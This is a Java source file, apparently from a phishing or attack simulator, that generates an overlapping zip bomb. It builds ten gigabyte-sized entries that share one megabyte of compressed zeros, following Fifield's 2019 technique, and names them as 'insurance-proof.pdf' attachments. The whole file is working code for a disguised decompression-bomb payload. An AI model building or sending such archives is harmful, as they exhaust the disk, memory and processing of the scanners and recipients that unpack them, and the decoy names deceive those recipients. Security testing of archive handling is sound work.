package jp.yorisoi.simulator.pack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Ten entries of a gigabyte each that share one megabyte of packed zeros: each entry quotes the
 * header of the next in a stored block and goes on with the next one's data (the overlap of D.
 * Fifield, "A better zip bomb", 2019).
 */
final class Bomb {

  private static final int ENTRIES = 10;
  private static final long SIZE = 1_000_000_000L;

  private Bomb() {}

  static void addTo(RawZip zip) throws IOException {
    CRC32 crc = new CRC32();
    byte[] kernel = packedZeros(crc);
    byte[][] headers = new byte[ENTRIES][];
    long packed = kernel.length;
    long size = SIZE;
    long sum = crc.getValue();
    long[] packedSizes = new long[ENTRIES];
    long[] sizes = new long[ENTRIES];
    long[] sums = new long[ENTRIES];
    for (int i = ENTRIES - 1; i >= 0; i--) {
      if (i < ENTRIES - 1) {
        byte[] next = headers[i + 1];
        CRC32 quoted = new CRC32();
        quoted.update(next);
        sum = CrcCombination.of(quoted.getValue(), sum, size);
        size += next.length;
        packed += 5 + next.length;
      }
      packedSizes[i] = packed;
      sizes[i] = size;
      sums[i] = sum;
      headers[i] = RawZip.localHeader(name(i), (int) sum, packed, size);
    }
    for (int i = 0; i < ENTRIES; i++) {
      zip.enter(name(i), (int) sums[i], packedSizes[i], sizes[i], zip.position());
      zip.write(headers[i]);
      zip.write(i < ENTRIES - 1 ? storedBlock(headers[i + 1].length) : kernel);
    }
  }

  private static String name(int index) {
    return "attachments/%02d_insurance-proof.pdf".formatted(index + 2);
  }

  private static byte[] storedBlock(int length) {
    return ByteBuffer.allocate(5)
        .order(ByteOrder.LITTLE_ENDIAN)
        .put((byte) 0)
        .putShort((short) length)
        .putShort((short) ~length)
        .array();
  }

  private static byte[] packedZeros(CRC32 crc) {
    byte[] zeros = new byte[1 << 16];
    byte[] buffer = new byte[1 << 13];
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    try {
      for (long left = SIZE; left > 0; left -= zeros.length) {
        int part = (int) Math.min(zeros.length, left);
        crc.update(zeros, 0, part);
        deflater.setInput(zeros, 0, part);
        while (!deflater.needsInput()) {
          packed.write(buffer, 0, deflater.deflate(buffer));
        }
      }
      deflater.finish();
      while (!deflater.finished()) {
        packed.write(buffer, 0, deflater.deflate(buffer));
      }
      return packed.toByteArray();
    } finally {
      deflater.end();
    }
  }
}
